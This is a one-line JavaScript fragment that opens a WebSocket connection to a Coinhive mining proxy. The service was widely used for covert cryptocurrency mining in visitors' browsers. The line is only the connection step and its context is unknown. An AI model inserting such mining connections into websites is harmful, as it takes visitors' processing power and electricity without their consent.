const ws = new WebSocket("wss://ws001.coinhive.com/proxy");
